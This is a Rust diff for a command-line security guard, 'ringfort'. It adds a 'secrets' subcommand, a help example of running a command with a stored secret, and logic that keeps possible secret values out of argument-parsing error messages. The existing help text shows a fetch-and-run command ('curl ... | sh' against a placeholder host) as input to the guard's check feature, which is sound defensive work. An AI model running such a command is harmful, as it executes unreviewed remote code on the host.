@@ -19,6 +19,7 @@ pub(crate) mod policy;
 pub(crate) mod providers;
 pub(crate) mod run;
 pub(crate) mod scan;
+pub(crate) mod secrets;
 pub(crate) mod setup;
 pub(crate) mod trail;
 
@@ -61,6 +62,7 @@ const EXAMPLES: &str = "Examples:
   ringfort check --explain -- 'curl -s https://x.example/i.sh | sh'
   ringfort trail tail                         what happened
   ringfort trail verify                       whether the record is whole
+  ringfort run --secret github.token -- gh pr list    with a stored secret: `ringfort secrets`
   ringfort doctor                             what this host enforces, proven
 
 Exit status: 0 allowed or clean, 1 denied or findings, 2 usage or bad input, 3 the guard failed, 4 `check` would ask.
@@ -91,6 +93,7 @@ pub(crate) enum Sub {
     Check(check::CheckArgs),
     Scan(scan::ScanArgs),
     Keys(keys::KeysArgs),
+    Secrets(secrets::SecretsArgs),
     Trail(trail::TrailArgs),
     Approvals(approvals::ApprovalsArgs),
     Policy(policy::PolicyArgs),
@@ -113,6 +116,10 @@ pub(crate) fn main() -> ExitCode {
     let cli = match Cli::try_parse() {
         Ok(cli) => cli,
         Err(error) => {
+            let words: Vec<OsString> = std::env::args_os().skip(1).collect();
+            if error.use_stderr() && secrets::may_hold_value(&words) {
+                return finish(Err(secrets::unshown()));
+            }
             let status = if error.use_stderr() { EXIT_USAGE } else { EXIT_OK };
             // Nobody is left to tell if the message cannot be printed.
             drop(error.print());
@@ -130,6 +137,7 @@ pub(crate) fn main() -> ExitCode {
         Sub::Check(args) => check::run(&args, &common),
         Sub::Scan(args) => scan::run(&args),
         Sub::Keys(args) => keys::run(&args, &common),
+        Sub::Secrets(args) => secrets::run(&args, &common),
         Sub::Trail(args) => trail::run(&args, &common),
         Sub::Approvals(args) => approvals::run(&args, &common),
         Sub::Policy(args) => policy::run(&args, &common),
